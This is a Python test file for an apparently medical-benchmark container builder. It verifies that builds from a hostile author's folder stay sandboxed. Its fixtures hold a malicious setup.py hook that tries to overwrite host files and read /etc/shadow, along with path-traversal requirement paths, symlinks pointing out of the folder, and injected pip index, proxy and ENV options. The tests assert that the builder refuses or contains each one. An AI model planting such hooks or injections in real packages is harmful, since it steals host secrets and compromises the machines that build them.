"""Image builds take a hostile container author's folder: their package's build hooks run only
inside the build's sandbox, links and requirement paths never reach the builder's files, and
pip asks no package source but the configured one, however the option is spelled."""

from __future__ import annotations

import os
import shlex
import subprocess
import sys
from pathlib import Path

import pytest

from medperf_lite import settings
from medperf_lite.containers import docker_build, images, sandbox
from medperf_lite.containers.substitutions import pip_arguments, rewrite_requirements
from medperf_lite.errors import MedperfError
from tests.helpers import settings_for

HOOK = '''import os, pathlib
from setuptools import setup
here = pathlib.Path(__file__).resolve().parent
(here / "HOOK_RAN").write_text("yes")
for target in {targets!r}:
    try:
        pathlib.Path(target).write_text("pwned by a build hook")
    except OSError:
        pass
try:
    stolen = open("/etc/shadow").read()
except OSError:
    stolen = ""
(here / "STOLEN").write_text(stolen)
setup(name="evilpkg", version="0.1", py_modules=[])
'''


@pytest.fixture
def builder(tmp_path, monkeypatch):
    """A home and an image store of this test's own; a file on the host no build may change."""
    monkeypatch.setenv("MEDPERF_LITE_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("MEDPERF_LITE_IMAGES", str(tmp_path / "store"))
    monkeypatch.setattr(settings, "_current", None)
    (tmp_path / "home").mkdir()
    host_file = tmp_path / "host-secret.txt"
    host_file.write_text("THE-BUILDERS-OWN-SECRET\n")
    return tmp_path


def container(root: Path, dockerfile: str, files: dict[str, str] | None = None) -> Path:
    folder = root / "evil"
    (folder / "project").mkdir(parents=True)
    (folder / "container_config.yaml").write_text("image: evil/build:1\ntasks: {t: {run_args: {command: x}}}\n")
    (folder / "Dockerfile").write_text(dockerfile)
    for name, text in (files or {}).items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)
    return folder


def markers(root: Path) -> list[str]:
    return [str(root / "host-marker"), str(root / "home" / "pwned"), str(Path(images.__file__).parent / "pwned"),
            str(Path.cwd() / "pwned")]


@pytest.mark.parametrize("how", ["RUN pip install --no-build-isolation ./pkg",
                                 "RUN pip install --no-build-isolation -r requirements.txt",
                                 "RUN pip install --no-build-isolation -e /project/pkg"])
def test_a_local_packages_build_hook_runs_only_in_the_sandbox(builder, how):
    folder = container(builder, f"FROM python:3.11\nCOPY project /project\nWORKDIR /project\n{how}\n", {
        "project/pkg/setup.py": HOOK.format(targets=markers(builder)),
        "project/requirements.txt": "./pkg\n"})
    image, built = images.build_local(folder, settings_for(), echo=lambda *_: None)
    pkg = image.path / "root" / "project" / "pkg"
    assert built and (pkg / "HOOK_RAN").read_text() == "yes", "the hook did not run: the test shows nothing"
    assert all(not Path(m).exists() for m in markers(builder)), [m for m in markers(builder) if Path(m).exists()]
    assert (pkg / "STOLEN").read_text() == "", "the hook read the host's /etc/shadow"


@pytest.mark.parametrize("how,message", [
    ("RUN pip install -r ../../../../../../etc/passwd", "not copied by the Dockerfile"),
    ("RUN pip install -r /etc/passwd", "not copied by the Dockerfile"),
    ("RUN pip install -r /project/nested.txt", "not copied by the Dockerfile"),
    ("RUN pip install {host}", "not copied by the Dockerfile"),
    ("RUN pip install ~/pkg", "not copied by the Dockerfile"),
    ("RUN pip install https://127.0.0.1:9/evil.whl", "names a URL"),
    ("RUN pip install 'evil @ file:///etc/passwd'", "names a URL"),
    ("RUN pip install git+https://127.0.0.1:9/evil.git", "names a URL"),
    ("RUN pip install --frobnicate x", "not one medperf-lite can take"),
    ("RUN pip install --e x", "could be any of"),
])
def test_requirement_paths_and_urls_outside_the_image_are_refused(builder, how, message):
    host = builder / "host-secret.txt"
    folder = container(builder, f"FROM python:3.11\nCOPY project /project\nWORKDIR /project\n"
                                f"{how.format(host=host)}\n",
                       {"project/nested.txt": f"-r {os.path.relpath(host, builder / 'evil' / 'project')}\n"})
    with pytest.raises(MedperfError, match=message):
        images.build_local(folder, settings_for(), echo=lambda *_: None)
    assert not list((builder / "store").rglob("image.json"))
    assert not list(builder.glob("*.medperf-lite")) and host.read_text() == "THE-BUILDERS-OWN-SECRET\n"


@pytest.mark.parametrize("link", ["absolute", "relative", "folder", "loop", "dangling"])
@pytest.mark.parametrize("runner", ["local", "docker"])
def test_links_out_of_the_folder_are_refused_not_followed(builder, link, runner):
    folder = container(builder, "FROM python:3.11\nCOPY project /project\n")
    host = builder / "host-secret.txt"
    at = folder / "project" / "data"
    if link == "absolute":
        at.symlink_to(host)
    elif link == "relative":
        at.symlink_to(os.path.relpath(host, at.parent))
    elif link == "folder":
        at.symlink_to(builder)
    elif link == "loop":
        at.symlink_to(at.parent / "data2")
        (at.parent / "data2").symlink_to(at)
    else:
        at.symlink_to(folder / "nowhere")
    build = images.build_local if runner == "local" else docker_build.build_docker
    with pytest.raises(MedperfError, match="the link project/data2? leads (out of the folder|nowhere)"):
        build(folder, settings_for(runner), echo=lambda *_: None)
    assert not list((builder / "store").rglob("image.json"))


def test_a_link_inside_the_folder_is_kept(builder):
    folder = container(builder, "FROM python:3.11\nCOPY project /project\n", {"project/real.txt": "mine\n"})
    (folder / "project" / "alias.txt").symlink_to("real.txt")
    image, _ = images.build_local(folder, settings_for(), echo=lambda *_: None)
    assert (image.path / "root" / "project" / "alias.txt").read_text() == "mine\n"


# every spelling of a package source pip takes, on the command line and in requirement files
SOURCES = ["-ihttp://127.0.0.1:9/simple", "-i http://127.0.0.1:9/simple", "--index-url=http://127.0.0.1:9/simple",
           "--index=http://127.0.0.1:9/simple", "--ind http://127.0.0.1:9/simple", "--extra-index=http://127.0.0.1:9/s",
           "--extra-index-url http://127.0.0.1:9/s", "-fhttp://127.0.0.1:9/links", "--find-links\thttp://127.0.0.1:9/l",
           "--find=http://127.0.0.1:9/l", "--trusted-host 127.0.0.1", "--proxy http://127.0.0.1:9",
           "--cert /etc/evil.pem", "--no-index", "-qUihttp://127.0.0.1:9/simple"]


@pytest.mark.parametrize("source", SOURCES)
def test_no_spelling_of_a_package_source_passes(source):
    words = shlex.split(source)
    args, notes = pip_arguments([*words, "numpy"], {}, lambda p: p)
    assert "numpy" in args and not any("127.0.0.1" in a or "evil" in a or a == "--no-index" for a in args), args
    assert any("dropped pip option" in n for n in notes)
    text, notes = rewrite_requirements(f"{source}\nnumpy\n", {})
    assert "127.0.0.1" not in text and "evil" not in text and "--no-index" not in text and "numpy" in text, text


@pytest.mark.parametrize("line", ["ENV PIP_INDEX_URL=http://127.0.0.1:9/simple", "ENV PIP_EXTRA_INDEX_URL http://127.0.0.1:9/s",
                                  "ARG PIP_FIND_LINKS=http://127.0.0.1:9/l", "ENV A=1 PIP_TRUSTED_HOST=127.0.0.1",
                                  "ENV PIP_CONFIG_FILE=/project/pip.conf"])
def test_a_docker_build_takes_no_pip_settings_from_the_dockerfile(line):
    dockerfile, notes = docker_build.docker_dockerfile(
        f"FROM python:3.11\n{line}\nRUN PIP_INDEX_URL=http://127.0.0.1:9 pip install numpy && env PIP_PROXY=x pip3 install"
        " -ihttp://127.0.0.1:9/s pyyaml\n", {})
    assert "127.0.0.1" not in dockerfile and "PIP_CONFIG_FILE" not in dockerfile and "PIP_PROXY" not in dockerfile
    assert dockerfile.count("pip install --isolated") == 1 and dockerfile.count("pip3 install --isolated") == 1


def test_a_docker_builds_requirement_files_are_rewritten(tmp_path):
    (tmp_path / "project").mkdir()
    (tmp_path / "project" / "deps.in").write_text("--index=http://127.0.0.1:9/simple\n-r more/extra.cfg\ntorch==2.5.1\n")
    (tmp_path / "project" / "more").mkdir()
    (tmp_path / "project" / "more" / "extra.cfg").write_text("-fhttp://127.0.0.1:9/l\nnumpy\n")
    dockerfile, _ = docker_build.docker_dockerfile(
        "FROM python:3.11\nCOPY project /project\nRUN pip install -r /project/deps.in\n", {"torch": "torch==2.13.0"}, tmp_path)
    assert "--requirement /project/deps.in" in dockerfile
    assert (tmp_path / "project" / "deps.in").read_text() == "--requirement /project/more/extra.cfg\ntorch==2.13.0\n"
    assert (tmp_path / "project" / "more" / "extra.cfg").read_text() == "numpy\n"
    with pytest.raises(MedperfError, match="not copied by the Dockerfile"):
        docker_build.docker_dockerfile("FROM python:3.11\nRUN pip install -r /etc/passwd\n", {}, tmp_path)


def test_the_build_sandbox_sees_no_host_secret(builder):
    """pip's process itself (not only a hook): the host's home folders and secrets are not there."""
    code = ("import os\ntry: shadow = open('/etc/shadow').read()\nexcept OSError: shadow = ''\n"
            f"print(sorted(os.listdir('/')), shadow == '', os.path.exists({str(builder / 'host-secret.txt')!r}),"
            f" os.path.exists('/root/.cache'), os.path.exists({str(builder / 'home')!r}))")
    work = builder / "work"
    (work / "venv").mkdir(parents=True)
    argv = sandbox.base_command(work) + ["--", sys.executable, "-c", code]
    out = subprocess.run(argv, capture_output=True, text=True, env=sandbox.HOST_ENV)
    assert out.returncode == 0, out.stderr
    assert out.stdout.strip().endswith("True False False False"), out.stdout
